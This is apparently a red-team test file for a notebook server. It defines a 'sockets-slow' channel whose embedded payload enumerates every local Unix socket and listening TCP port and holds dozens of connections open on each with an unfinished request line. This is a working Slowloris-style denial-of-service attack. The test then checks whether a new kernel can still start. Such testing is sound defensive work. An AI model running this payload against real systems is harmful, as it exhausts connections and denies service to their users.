from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

HOLD = """
import glob, os, socket
def doors():
    for path in glob.glob("/run/**/*", recursive=True):
        yield socket.AF_UNIX, path
    for line in [*open("/proc/net/tcp")][1:]:
        address = line.split()
        if address[3] == "0A":
            yield socket.AF_INET, ("127.0.0.1", int(address[1].split(":")[1], 16))
held = []
for family, place in list(doors()):
    for _ in range(60):
        peer = socket.socket(family)
        peer.settimeout(0.2)
        try:
            peer.connect(place)
            peer.send(b"GET / HT")
        except OSError:
            break
        held.append(peer)
print(len(held))
"""
RELEASE = "[peer.close() for peer in held]; held.clear();"


@channel(
    "sockets-slow",
    "Every socket that a kernel can reach held by dozens of peers that never end their first line",
    direction="stop",
    closed_by="the launcher drops a peer that is slow; the desk waits for it only so long",
    stock="tornado's connections are not counted",
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.run(HOLD)
    alive = site.answers()
    started = site.ask("POST", "api/kernels", {"name": "python3"}, within=20)
    site.run(RELEASE)
    if kernel := started.document.get("id"):
        site.ask("DELETE", f"api/kernels/{kernel}")
    return None if alive and started.status == 201 else secret
